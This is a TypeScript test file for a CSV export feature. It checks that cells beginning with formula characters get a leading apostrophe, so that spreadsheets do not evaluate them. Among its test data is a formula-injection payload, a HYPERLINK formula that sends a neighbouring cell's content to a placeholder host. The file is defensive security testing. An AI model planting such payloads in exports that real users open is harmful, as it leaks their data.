import { toCsv } from '../../src/http/figures-export';
import { operationIn } from '../support/factories';
import { registerGoods } from '../support/goods';
import { startTestApp, type TestApp } from '../support/test-app';
import { signIn } from '../support/web';

/**
 * Issue 11, finding 5: a text cell that begins with = + - @, a tab or a
 * carriage return is a formula to a spreadsheet opening the CSV. Every CSV
 * export neutralises such text cells (a leading apostrophe); numbers stay
 * numbers, negative ones too.
 */

/** Formulas that reached CSV cells as they were. */
const FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(1,1)'];

/** The cells of a CSV text (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\ufeff/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

/** Would a spreadsheet read this cell as a formula? */
const formulaLike = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('a CSV cell never starts a formula', () => {
  it('text cells that begin with = + - @, a tab or a carriage return are neutralised', () => {
    const cells = [...FORMULAS, '\t=1+1', '\r=1+1'];
    const csv = toCsv({ name: 'x', title: 'x', headers: ['h'], rows: cells.map((c) => [c]) });
    const read = parseCsv(csv)
      .slice(1)
      .map((r) => r[0]);
    expect(read).toHaveLength(cells.length);
    for (const [i, cell] of read.entries()) {
      expect(formulaLike(cell)).toBe(false);
      // What was typed is still all there, after the apostrophe.
      expect(cell).toBe(`'${cells[i]}`);
    }
  });

  it('numbers stay numbers, negative ones too; text that only looks like a number is text', () => {
    const csv = toCsv({ name: 'x', title: 'x', headers: ['a', 'b', 'c', 'd'], rows: [[-3, 2.5, '-3', '外滩 -3']] });
    expect(parseCsv(csv)[1]).toEqual(['-3', '2.5', "'-3", '外滩 -3']);
  });

  it('the header row is neutralised like any other', () => {
    const csv = toCsv({ name: 'x', title: 'x', headers: ['=1+1'], rows: [] });
    expect(parseCsv(csv)[0]).toEqual(["'=1+1"]);
  });
});

describe('the figures’ exports of records typed by users', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
    const op = (await operationIn(t, 'in_progress')).id;
    await registerGoods(t, op, {
      items: FORMULAS.map((description) => ({
        description,
        quantity: 1,
        unit: '件',
        storagePlace: '外滩中队暂扣物品仓库',
      })),
    });
  });
  afterAll(async () => {
    await t.close();
  });
  afterEach(() => {
    expect(t.logged).toEqual([]);
  });

  const expectNeutral = (text: string) => {
    const rows = parseCsv(text);
    const titles = rows.slice(1).map((r) => r[0]);
    // Every formula typed as a description is there, and none begins a cell.
    for (const f of FORMULAS) expect(titles.some((c) => c.includes(f))).toBe(true);
    for (const row of rows)
      for (const cell of row) expect({ cell, formula: formulaLike(cell) }).toEqual({ cell, formula: false });
  };

  it('the API’s drill-down CSV (goods registered)', async () => {
    const res = await t.as('duty').get('/api/v1/figures/goods_registered/records?period=2026&format=csv').expect(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    expectNeutral(res.text);
  });

  it('the web page’s drill-down CSV (goods registered)', async () => {
    const web = await signIn(t, 'duty');
    const res = await web.get('/figures/goods_registered?period=2026&format=csv').expect(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    expectNeutral(res.text);
  });

  it('the figures CSV keeps its numbers as numbers', async () => {
    const res = await t.as('duty').get('/api/v1/figures?period=2026&format=csv').expect(200);
    const goods = parseCsv(res.text).find((r) => r[0] === '暂扣物品登记');
    expect(goods).toBeDefined();
    expect(goods![1]).toBe('4');
  });
});
